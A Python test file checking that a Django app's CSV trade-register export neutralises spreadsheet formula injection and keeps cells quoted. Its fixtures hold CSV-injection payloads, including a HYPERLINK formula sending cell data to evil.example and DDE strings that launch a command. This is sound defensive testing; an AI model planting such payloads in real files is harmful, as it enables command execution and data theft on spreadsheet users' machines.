"""Exports are safe to open: the trade register neutralises what a
spreadsheet would run as a formula, and the GraphML and GEXF files are
well-formed XML whatever text is stored."""

import csv
import datetime
import io

import pytest

from actors.factories import ActorFactory
from common.dates import DatePrecision
from sources.factories import CitationFactory, SourceFactory
from transfers import exports
from transfers.choices import TransferStatus, TransferType
from transfers.factories import SystemFactory, TransferFactory
from transfers.models import Transfer, TransferIntermediary

from . import test_api_support as support
from .test_api_support import API

api_client = support.api_client

pytestmark = pytest.mark.django_db

CSV_URL = f"{API}/exports/trade-register.csv"

#: What OWASP's CSV-injection page lists as a formula's first character, and NUL (ASVS 1.2.10).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def register(transfers=None) -> str:
    transfers = Transfer.objects.all() if transfers is None else transfers
    return "".join(exports.write_csv(exports.trade_register(transfers)))


def test_formula_cells_get_a_leading_single_quote(api_client):
    supplier = ActorFactory(name='=HYPERLINK("https://evil.example/?"&A1,"Click")')
    recipient = ActorFactory(name="+1+cmd|' /C calc'!A0")
    system = SystemFactory(designation="@SUM(1+1)*cmd|' /C calc'!A0", description="-2+3+cmd")
    transfer = TransferFactory(supplier=supplier, recipient=recipient, system=system, slug="-1-1")
    TransferIntermediary.objects.create(
        transfer=transfer, actor=ActorFactory(name="\t=1+1"), position=1
    )
    CitationFactory(transfer=transfer, source=SourceFactory(title="\r=1+1", url="=1+1"))

    response = api_client.get(CSV_URL)
    [row] = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert row["Supplier"] == "'" + supplier.name
    assert row["Recipient"] == "'" + recipient.name
    assert row["Designation"] == "'" + system.designation
    assert row["Description"] == "'-2+3+cmd"
    assert row["Deal id"] == "'-1-1"
    assert row["Intermediaries"] == "'\t=1+1"
    assert row["Source titles"] == "'\r=1+1"
    assert row["Source URLs"] == "'=1+1"


def test_cells_that_only_contain_a_trigger_later_are_left_alone():
    TransferFactory(
        supplier=ActorFactory(name="Russia"),
        system=SystemFactory(designation="S-300 = SA-10", description="a+b, c-d @ e"),
        start_date=datetime.date(2019, 3, 4),
        start_date_precision=DatePrecision.DAY,
        quantity=0,
    )
    [row] = list(csv.DictReader(io.StringIO(register())))
    assert (row["Supplier"], row["Designation"], row["Description"]) == (
        "Russia",
        "S-300 = SA-10",
        "a+b, c-d @ e",
    )
    assert (row["Start date"], row["Numbers ordered"]) == ("2019-03-04", "0")


def test_every_cell_is_quoted_so_embedded_separators_start_no_new_cell():
    """A spreadsheet set to split on ';' (or tab) must not see `=…` as a
    cell of its own: every cell is in double quotes, as OWASP advises."""
    TransferFactory(system=SystemFactory(designation='x;=HYPERLINK("a")\t=1+1'))
    text = register()
    assert '"x;=HYPERLINK(""a"")\t=1+1"' in text
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"'), line


def test_cells_we_write_from_our_own_vocabularies_never_start_a_formula():
    """The fast writer neutralises only the cells that hold stored text; the
    others come from these lists (and digits), so none can start a formula."""
    from transfers.choices import SystemCategory

    words = [
        *exports.TRADE_REGISTER_COLUMNS,
        *exports.CATEGORY_LABELS.values(),
        *exports.SIPRI_CONDITION_TEXT.values(),
        *TransferStatus.values,
        *TransferType.values,
        *DatePrecision.values,
        *SystemCategory.values,
        "yes",
        "no",
    ]
    assert [word for word in words if word.startswith(TRIGGERS)] == []
